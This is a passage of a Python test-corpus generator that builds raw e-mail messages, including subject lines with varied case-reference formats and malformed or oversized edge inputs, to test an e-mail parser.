        "unknown-prefix": "Re: [ABC-000123] license",
        "c-number": "Re: C1234567 license renewal",
        "c-number-bracket": "Re: [C1234567] license renewal",
        "c-number-in-word": "ABC1234567X not a case",
        "c-number-too-short": "Re: C123456 license",
        "c-number-too-long": "Re: C12345678 license",
        "c-number-lowercase": "re: c1234567",
        "c-and-plm": "Re: C1234567 / [PLM-000123]",
        "encoded-subject": _ew("Sv: [PLM-000123] Licensservern startar inte – åäö", "utf-8"),
        "encoded-split": "=?utf-8?Q?Re=3A_=5BPLM-00?= =?utf-8?Q?0123=5D_license?=",
        "fullwidth-brackets": "Re: 【PLM-000123】 license".encode(),
        "fullwidth-digits": "Re: [PLM-０００１２３] license".encode(),
        "8bit-latin1-around": "Sv: [PLM-000123] Fråga".encode("latin-1"),
        "prefix-after-tag": "[PLM-000123] Re: Re: License",
        "hash-style": "Re: #000123 license",
        "ticket-word": "Re: Ticket PLM-000123: license",
        "empty-subject-case-in-body": "",
    }
    for label, subject in subjects.items():
        n = f"case-ref/{label}"
        body = _text(n, "", "Our case is PLM-000123 (C1234567).") if label.endswith("in-body") else _text(n)
        c.add(n, _msg(_std(n, subject, extra=[("In-Reply-To", f"<unknown-{_key(n):x}@customer-ab.se>")]), body))
    n = "case-ref/quoted-only"
    c.add(n, _msg(_std(n, "New problem"), _text(n, "", "> On Monday PLM Support wrote:", "> [PLM-000999] Old case")))


def _edge(c: _Corpus) -> None:
    n = "edge/empty"
    c.add(n, b"")
    c.add("edge/only-crlf", CRLF)
    c.add("edge/only-lf", b"\n")
    c.add("edge/whitespace-only", b" \t \r\n \r\n\t")
    c.add("edge/blank-lines-200k", CRLF * 200000)
    n = "edge/headers-only-no-blank-line"
    c.add(n, _head(_std(n, "Headers only")))
    n = "edge/headers-only-no-final-newline"
    c.add(n, _head(_std(n, "Headers only")).rstrip(CRLF))
    n = "edge/headers-only-with-blank-line"
    c.add(n, _msg(_std(n, "Headers only")))
    n = "edge/truncated-mid-header"
    c.add(n, _head(_std(n, "Truncated"))[:120])
    n = "edge/truncated-mid-base64"
    full = _with_attachment(
        n, "Truncated", _attachment('filename="x.bin"', _rand(71, 4000), "application/octet-stream")
    )
    c.add(n, full[: len(full) - 2001])
    c.add("edge/body-only-blank-first", CRLF + _text("edge/body-only-blank-first"))
    c.add("edge/body-only-no-headers", _lines("Hello, my license server does not start.", "Please call me.", "Anna"))
    c.add(
        "edge/body-only-looks-like-header",
        _lines("Note: the server is down since Monday.", "", "Anna Lindqvist, customer-ab"),
    )
    for seed, size in ((1, 1024), (2, 65536), (3, 1024 * 1024)):
        c.add(f"edge/garbage-seed{seed}-{size}", _rand(seed, size))
    c.add("edge/garbage-printable", bytes(random.Random(4).choices(range(32, 127), k=65536)))
    c.add("edge/zeros-64k", b"\x00" * 65536)
    c.add("edge/zeros-1m", b"\x00" * (1024 * 1024))
    c.add("edge/ff-64k", b"\xff" * 65536)
    c.add("edge/single-line-1m", b"x" * (1024 * 1024))
    c.add("edge/single-line-1m-words", (b"word " * 209716)[: 1024 * 1024])
    c.add("edge/single-line-looks-like-header-4m", b"Subject: " + b"y" * (4 * 1024 * 1024))
    n = "edge/mbox-from-line"
    c.add(n, b"From anna.lindqvist@customer-ab.se Mon Nov 30 10:15:00 2026\r\n" + _msg(_std(n, "mbox"), _text(n)))
    n = "edge/mbox-escaped-from-in-body"
    c.add(n, _msg(_std(n, "From lines in body"), b">From the desk of Anna\r\nFrom here on it fails\r\n"))
    n = "edge/utf8-bom-prefix"
    c.add(n, b"\xef\xbb\xbf" + _msg(_std(n, "BOM before headers"), _text(n)))
    n = "edge/smtp-dot-terminated"
    c.add(n, _msg(_std(n, "SMTP terminator left in"), _text(n) + b"..dot-stuffed line\r\n.\r\n"))
    n = "edge/leading-whitespace"
    c.add(n, b"   \r\n" + _msg(_std(n, "Leading blank"), _text(n)))
    n = "edge/html-document"
    c.add(n, b"<!DOCTYPE html><html><body><p>Not an e-mail</p></body></html>\r\n")
    n = "edge/json-document"
    c.add(n, b'{"from": "anna@customer-ab.se", "subject": "not an e-mail"}\r\n')
    n = "edge/utf16-whole-message"
    c.add(n, _msg(_std(n, "Whole message in UTF-16"), _text(n)).decode("ascii").encode("utf-16"))
    n = "edge/header-then-eof-in-continuation"
    c.add(n, _head(_std(n, "x")) + b"X-Last: value\r\n  continued")


def messages() -> list[tuple[str, bytes]]:
    """All corpus messages as (name, raw bytes), in a fixed order with unique names."""
    c = _Corpus()
    for family in (
        _plain,
        _broken_boundary,
        _nested,
        _many_parts,
        _headers,
        _rfc2047,
        _address,
        _dates,
        _line_endings,
        _body_base64,
        _body_qp,
        _charsets,
        _charset_wrong,
        _charset_unknown,
        _cte,
        _html,
        _attachments,
        _filename_2231,
        _filename_evil,
        _inline,
        _rfc822,
        _tnef_family,
        _auto_replies,
        _bounces,
        _lists,
        _replies,
        _case_refs,
        _edge,
    ):
        family(c)
    return c.entries


if __name__ == "__main__":
    _all = messages()
    print(f"{len(_all)} messages, {sum(len(raw) for _, raw in _all):,} bytes")
